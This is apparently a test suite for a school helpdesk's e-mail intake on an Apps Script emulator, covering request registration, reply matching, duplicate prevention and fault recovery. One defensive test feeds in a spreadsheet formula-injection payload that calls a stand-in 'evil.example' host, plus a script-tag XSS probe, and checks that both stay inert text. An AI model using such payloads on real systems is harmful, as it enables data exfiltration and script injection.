// E-mail intake on the embedded runtime: mail under the helpdesk label becomes requests, replies reach their
// request, machine mail is passed over, hostile text stays text, and nothing registers twice.
import path from 'node:path';
import type { Outcome, Runtime } from '../../emulator/index';
import { person } from '../../emulator/people';
import { listTriggers, timeDrivenEvent } from '../../emulator/scheduler';
import { type Delivered, deliverMail, type IncomingMail, mailbox, sentMail } from '../../emulator/services/mail';
import { readFormulas, readSheetValues } from '../../emulator/services/spreadsheet/index';
import { toRealmValue } from '../../emulator/services/utilities';
import type { MailPollReport } from '../../src/app/poll-helpdesk-mail';
import { ru as intakeRu } from '../../src/locale/email-intake';
import { ru } from '../../src/locale/ru';
import { testEntryRuntime } from '../helpers/gas-bundle';
import { setSetting } from '../helpers/settings';

const ENTRY = path.join(__dirname, 'mail-intake.entry.ts');
const OWNER = 'pomosh.ej.school@gmail.com';
const CONSULTANT = 'consultant.ivanova@gmail.com';
const LABEL = 'Помощь ЭЖ';
const PROCESSED = 'Помощь ЭЖ/обработано';
const PARENT = 'anna.petrova@mail.ru';
const KEY_LINE = /Код письма: (\S+)/g;

function runtime(): Runtime {
  const rt = testEntryRuntime(ENTRY, { owner: OWNER });
  person(rt, OWNER).runOrThrow('setup');
  setSetting(rt, 'consultant.email', CONSULTANT);
  rt.runAsOwner('installPollTrigger');
  return rt;
}

/** One run of the owner's 10-minute trigger, with a genuine event. */
function poll(rt: Runtime): Outcome<MailPollReport> {
  const trigger = listTriggers(rt).find((t) => t.handler === 'pollHelpdeskMail');
  if (!trigger) throw new Error('no pollHelpdeskMail trigger');
  return rt.execute<MailPollReport>(
    'pollHelpdeskMail',
    (exec) => [toRealmValue(exec, timeDrivenEvent(rt.clock.now(), trigger.uid))],
    { kind: 'installable-trigger', effectiveUser: OWNER, actingUser: OWNER, authMode: 'FULL', triggerUid: trigger.uid },
  );
}

function pollOk(rt: Runtime): MailPollReport {
  const outcome = poll(rt);
  if (!outcome.ok || outcome.value === undefined) throw outcome.error ?? new Error('no report');
  return outcome.value;
}

/** Mail reaching the helpdesk account, labelled by the school's Gmail filter. */
function deliver(rt: Runtime, mail: Partial<IncomingMail>): Delivered {
  rt.clock.advance(60_000);
  return deliverMail(rt, {
    from: `Анна Петрова <${PARENT}>`,
    to: OWNER,
    subject: 'Не открывается дневник',
    body: 'Здравствуйте! После входа через Госуслуги пишет «нет доступа к организации». Ребёнок в 5А.',
    labels: [LABEL],
    ...mail,
  });
}

function tableRecords(rt: Runtime, sheet: string): Array<Record<string, unknown>> {
  const [keys, , ...rows] = readSheetValues(rt, sheet);
  return rows
    .map((row) => Object.fromEntries(keys.map((k, i) => [String(k), row[i]]).filter(([k]) => k !== '')))
    .filter((r) => Object.values(r).some((v) => v !== ''));
}

const requests = (rt: Runtime) => tableRecords(rt, ru.sheets.requests);
const auditEntries = (rt: Runtime) => tableRecords(rt, ru.sheets.audit);

function labelsOfThread(rt: Runtime, threadId: string): string[] {
  const names = new Set<string>();
  for (const m of mailbox(rt, OWNER)) if (m.threadId === threadId) for (const l of m.labels) names.add(l);
  return [...names].sort();
}

function keysOf(body: string): string[] {
  return [...body.matchAll(KEY_LINE)].map((m) => m[1]);
}

function sentTo(rt: Runtime, address: string) {
  return sentMail(rt, OWNER).filter((m) => m.to.some((t) => t.includes(address)));
}

describe('a new message', () => {
  let rt: Runtime;
  let delivered: Delivered;
  let report: MailPollReport;

  beforeAll(() => {
    rt = runtime();
    delivered = deliver(rt, {});
    report = pollOk(rt);
  });

  test('becomes a request with the e-mail channel, the sender and the subject as the first line', () => {
    const rows = requests(rt);
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(report.registered).toEqual([row.id]);
    expect(row.id).toMatch(/^ОБ-2026-\d{5}$/);
    expect(row.channel).toBe('Электронная почта');
    expect(row.email).toBe(PARENT);
    expect(row.name).toBe('Анна Петрова');
    expect(row.preferredChannel).toBe(ru.choices.preferredChannel.email);
    expect(String(row.description).split('\n')[0]).toBe('Не открывается дневник');
    expect(String(row.description)).toContain('нет доступа к организации');
    expect(row.status).toBe(ru.choices.status.new);
    expect(row.assignee).toBe(CONSULTANT);
  });

  test('is acknowledged once, in the requester’s own thread, naming the ID and nothing they wrote', () => {
    const id = String(requests(rt)[0].id);
    const acks = sentTo(rt, PARENT);
    expect(acks).toHaveLength(1);
    expect(acks[0].threadId).toBe(delivered.copies[OWNER].threadId);
    expect(acks[0].body).toContain(id);
    expect(keysOf(acks[0].body)).toEqual([`${id}|ack|received`]);
    expect(acks[0].body).not.toContain('Госуслуги');
  });

  test('the assignee is told, and the thread moves to the processed label', () => {
    expect(sentTo(rt, CONSULTANT).map((m) => keysOf(m.body))).toEqual([[`${requests(rt)[0].id}|assignee|registered`]]);
    expect(labelsOfThread(rt, delivered.copies[OWNER].threadId)).toEqual([PROCESSED]);
    expect(report.threadsDone).toBe(1);
  });

  test('the same message polled again — relabelled, or by two runs at once — registers once', () => {
    rt.runAsOwner('relabel', delivered.copies[OWNER].threadId, LABEL);
    const again = pollOk(rt);
    expect(again.registered).toEqual([]);
    expect(again.replies).toEqual([]);
    expect(labelsOfThread(rt, delivered.copies[OWNER].threadId)).toEqual([PROCESSED]);

    const second = deliver(rt, { from: 'ivan.sidorov@yandex.ru', subject: 'Оценки не видны' });
    let nested: Outcome<MailPollReport> | undefined;
    rt.faults.add({
      functionName: 'pollHelpdeskMail',
      method: 'GmailMessage.getPlainBody',
      action: {
        run: () => {
          nested = poll(rt);
        },
      },
    });
    const outer = pollOk(rt);
    expect(nested?.ok).toBe(true);
    expect([...outer.registered, ...(nested?.value?.registered ?? [])]).toHaveLength(1);
    expect(requests(rt).filter((r) => r.email === 'ivan.sidorov@yandex.ru')).toHaveLength(1);
    expect(sentTo(rt, 'ivan.sidorov@yandex.ru')).toHaveLength(1);
    expect(labelsOfThread(rt, second.copies[OWNER].threadId)).toEqual([PROCESSED]);
  });
});

describe('a reply to a known request', () => {
  let rt: Runtime;
  let id: string;
  let first: Delivered;

  beforeAll(() => {
    rt = runtime();
    first = deliver(rt, {});
    pollOk(rt);
    id = String(requests(rt)[0].id);
  });

  function setStatus(label: string): void {
    const [keys] = readSheetValues(rt, ru.sheets.requests);
    const col = String.fromCharCode(65 + keys.indexOf('status'));
    expect(person(rt, OWNER).edit(ru.sheets.requests, `${col}3`, label).refused).toBeUndefined();
  }

  test('with the ID in the subject reaches the request: no new row, status back in work, assignee told', () => {
    setStatus(ru.choices.status.clarification);
    const reply = deliver(rt, {
      subject: `Уточнение по обращению ${id}`,
      body: 'Вход через Госуслуги, браузер Яндекс, ошибка «нет доступа к организации».',
    });
    const report = pollOk(rt);
    expect(report.registered).toEqual([]);
    expect(report.replies).toEqual([id]);
    expect(requests(rt)).toHaveLength(1);
    expect(requests(rt)[0].status).toBe(ru.choices.status.inProgress);

    const entry = auditEntries(rt).find((e) => e.action === intakeRu.audit.replyReceived);
    expect(entry).toMatchObject({
      requestId: id,
      columnKey: 'status',
      before: ru.choices.status.clarification,
      after: ru.choices.status.inProgress,
      note: `email:${reply.copies[OWNER].id}`,
    });

    const notices = sentTo(rt, CONSULTANT).filter((m) => keysOf(m.body).some((k) => k.includes('|assignee|reply-')));
    expect(notices).toHaveLength(1);
    expect(notices[0].subject).toContain(id);
    expect(notices[0].body).toContain(ru.choices.status.inProgress);
    expect(notices[0].body).toContain('https://mail.google.com/');
    expect(notices[0].body).not.toContain('браузер Яндекс');
    expect(labelsOfThread(rt, reply.copies[OWNER].threadId)).toEqual([PROCESSED]);
  });

  test('in the request’s thread, without any ID, still reaches it; the status stays as a person set it', () => {
    setStatus(ru.choices.status.answered);
    const ack = sentTo(rt, PARENT)[0];
    const reply = deliver(rt, {
      subject: 'Re: Не открывается дневник',
      body: 'Спасибо, всё заработало!',
      inReplyToMessageId: ack.messageId,
    });
    expect(reply.copies[OWNER].threadId).toBe(first.copies[OWNER].threadId);
    // The processed thread's labels carry over to the new message, and the filter adds the intake label.
    expect(labelsOfThread(rt, reply.copies[OWNER].threadId)).toEqual([LABEL, PROCESSED]);
    const report = pollOk(rt);
    expect(report).toMatchObject({ registered: [], replies: [id] });
    expect(requests(rt)).toHaveLength(1);
    expect(requests(rt)[0].status).toBe(ru.choices.status.answered);
    expect(auditEntries(rt).filter((e) => e.action === intakeRu.audit.replyReceived)).toHaveLength(2);
    expect(labelsOfThread(rt, reply.copies[OWNER].threadId)).toEqual([PROCESSED]);
  });

  test('the assignee answering a notice in its thread: recorded as mail on the request, nothing else', () => {
    setStatus(ru.choices.status.clarification);
    const notice = sentTo(rt, CONSULTANT).find((m) => keysOf(m.body).includes(`${id}|assignee|registered`));
    const answer = deliver(rt, {
      from: `Ирина Иванова <${CONSULTANT}>`,
      subject: `Re: ${notice?.subject}`,
      body: 'Позвоню родителю сама.',
      inReplyToMessageId: notice?.messageId,
    });
    const noticesBefore = sentTo(rt, CONSULTANT).length;
    const report = pollOk(rt);
    expect(report).toMatchObject({ registered: [], replies: [id] });
    expect(requests(rt)).toHaveLength(1);
    expect(requests(rt)[0].status).toBe(ru.choices.status.clarification);
    expect(auditEntries(rt).find((e) => e.note === `email:${answer.copies[OWNER].id}`)).toMatchObject({
      requestId: id,
      action: intakeRu.audit.mailReceived,
      columnKey: '',
    });
    expect(sentTo(rt, CONSULTANT)).toHaveLength(noticesBefore);
  });

  test('an ID that is not in the log does not make a reply: the message is a new request', () => {
    const report = pollOk(rt);
    expect(report.registered).toEqual([]);
    deliver(rt, { from: 'oleg@mail.ru', subject: 'Вопрос по ОБ-2025-09999', body: 'Такого номера нет.' });
    const next = pollOk(rt);
    expect(next.registered).toHaveLength(1);
    expect(requests(rt)).toHaveLength(2);
  });
});

describe('machine mail and hostile mail', () => {
  let rt: Runtime;
  let report: MailPollReport;
  let autoReply: Delivered;
  let bounce: Delivered;

  beforeAll(() => {
    rt = runtime();
    autoReply = deliver(rt, { subject: 'Автоответ: Re: Обращение', body: 'Я в отпуске до 15 сентября.' });
    bounce = deliver(rt, {
      from: 'Mail Delivery Subsystem <mailer-daemon@googlemail.com>',
      subject: 'Delivery Status Notification (Failure)',
      body: 'Address not found',
    });
    deliver(rt, {
      from: 'Злоумышленник <hostile@mail.ru>',
      subject: '=IMPORTXML("http://evil.example/x", "//a")',
      body: `<script>alert(1)</script>\n${'Ж'.repeat(60_000)}`,
    });
    report = pollOk(rt);
  });

  test('an auto-reply and a bounce are not requests, and are labelled processed', () => {
    expect(report.ignored).toBe(2);
    expect(requests(rt).map((r) => r.email)).toEqual(['hostile@mail.ru']);
    expect(labelsOfThread(rt, autoReply.copies[OWNER].threadId)).toEqual([PROCESSED]);
    expect(labelsOfThread(rt, bounce.copies[OWNER].threadId)).toEqual([PROCESSED]);
    expect(sentTo(rt, 'mailer-daemon')).toHaveLength(0);
  });

  test('a hostile body is stored as text: no formula, cut to a cell with the rest kept, escaped in mail', () => {
    const [row] = requests(rt);
    const description = String(row.description);
    expect(description.startsWith('=IMPORTXML("http://evil.example/x", "//a")\n<script>alert(1)</script>')).toBe(true);
    expect(description.length).toBeLessThanOrEqual(50_000);
    expect(String(row.flags)).toContain(ru.flags.truncated);
    const formulas = readFormulas(rt, ru.sheets.requests)
      .flat()
      .filter((f) => f !== '');
    expect(formulas).toEqual([]);
    const notice = sentTo(rt, CONSULTANT)[0];
    expect(notice.htmlBody).toContain('&lt;script&gt;');
    expect(notice.htmlBody).not.toContain('<script>');
  });
});

describe('forwarded by hand from the school’s mail.ru address', () => {
  test('an original sender that is not a valid address is kept and flagged, not dropped', () => {
    const rt = runtime();
    deliver(rt, {
      from: 'Школа <fsk1-siva@mail.ru>',
      subject: 'Fwd: дневник',
      body: [
        'Пересылаю.',
        '',
        '-------- Пересылаемое сообщение --------',
        'От: Мария Кузнецова <kuznetsova@mail>',
        'Тема: дневник',
        '',
        'Не вижу домашнее задание.',
      ].join('\n'),
    });
    expect(pollOk(rt).registered).toHaveLength(1);
    const [row] = requests(rt);
    expect(row).toMatchObject({ name: 'Мария Кузнецова', email: 'kuznetsova@mail' });
    expect(String(row.flags)).toContain(ru.flags['invalid-email']);
    expect(String(row.flags)).toContain(ru.flags['callback-needed']);
    expect(String(row.description)).toContain('Не вижу домашнее задание.');
    expect(sentTo(rt, 'kuznetsova')).toHaveLength(0);
  });
});

test('each run is bounded: 20 new messages, oldest first; the rest waits for the next run', () => {
  const rt = runtime();
  for (let i = 0; i < 25; i++) deliver(rt, { from: `parent${i}@mail.ru`, subject: `Вопрос ${i}` });
  const first = pollOk(rt);
  const run = rt.executions[rt.executions.length - 1];
  expect(run.endedAt - run.startedAt).toBeLessThan(5 * 60_000); // modelled time, Apps Script stops at 6
  expect(first).toMatchObject({ stoppedEarly: true, threadsDone: 20 });
  expect(requests(rt).map((r) => r.email)).toEqual(Array.from({ length: 20 }, (_, i) => `parent${i}@mail.ru`));
  const second = pollOk(rt);
  expect(second).toMatchObject({ stoppedEarly: false, threadsDone: 5 });
  expect(requests(rt)).toHaveLength(25);
  expect(new Set(requests(rt).map((r) => r.id)).size).toBe(25);
});

describe('a run interrupted after the registration, before the label swap', () => {
  test('a failing label call: the next run registers nothing twice and finishes the swap', () => {
    const rt = runtime();
    const mail = deliver(rt, {});
    rt.faults.add({ method: 'GmailThread.addLabel', action: { throw: 'Service error: Gmail' } });
    const first = pollOk(rt);
    expect(first.registered).toHaveLength(1);
    expect(first.problems).toEqual([`${mail.copies[OWNER].threadId}: Service error: Gmail`]);
    expect(labelsOfThread(rt, mail.copies[OWNER].threadId)).toEqual([LABEL]);

    const second = pollOk(rt);
    expect(second).toMatchObject({ registered: [], replies: [], threadsDone: 1, problems: [] });
    expect(requests(rt)).toHaveLength(1);
    expect(sentTo(rt, PARENT)).toHaveLength(1);
    expect(labelsOfThread(rt, mail.copies[OWNER].threadId)).toEqual([PROCESSED]);
  });

  test('a run killed there: the next run registers nothing twice, and the acknowledgement goes once', () => {
    const rt = runtime();
    const mail = deliver(rt, {});
    rt.faults.add({ method: 'GmailThread.addLabel', action: { kill: true } });
    expect(poll(rt).execution.status).toBe('timed-out');
    expect(requests(rt)).toHaveLength(1);

    const second = pollOk(rt);
    expect(second).toMatchObject({ registered: [], threadsDone: 1 });
    expect(requests(rt)).toHaveLength(1);
    expect(labelsOfThread(rt, mail.copies[OWNER].threadId)).toEqual([PROCESSED]);
    // The killed run had queued the acknowledgement; runQueue sends it, once.
    rt.runAsOwner('runQueue', { triggerUid: listTriggers(rt).find((t) => t.handler === 'runQueue')?.uid });
    expect(sentTo(rt, PARENT)).toHaveLength(1);
  });

  test('a run killed before its mail was queued: the next run queues it, once', () => {
    const rt = runtime();
    deliver(rt, {});
    // The registration's three rows are written; the first write of the mail queue kills the run.
    rt.faults.add({ functionName: 'pollHelpdeskMail', method: 'Range.setNumberFormats', action: { kill: true } });
    expect(poll(rt).execution.status).toBe('timed-out');
    expect(requests(rt)).toHaveLength(1);
    expect(tableRecords(rt, ru.sheets.state).map((r) => r.notifiedAt)).toEqual(['']);
    expect(sentTo(rt, PARENT)).toHaveLength(0);

    expect(pollOk(rt).registered).toEqual([]);
    expect(requests(rt)).toHaveLength(1);
    expect(sentTo(rt, PARENT)).toHaveLength(1);
  });
});

test('a forged event is refused', () => {
  const rt = runtime();
  const outcome = rt.execute('pollHelpdeskMail', [{ triggerUid: 'forged' }], {
    kind: 'installable-trigger',
    effectiveUser: OWNER,
    actingUser: OWNER,
    authMode: 'FULL',
  });
  expect(outcome.ok).toBe(false);
  expect(outcome.error?.name).toBe('AccessDenied');
});
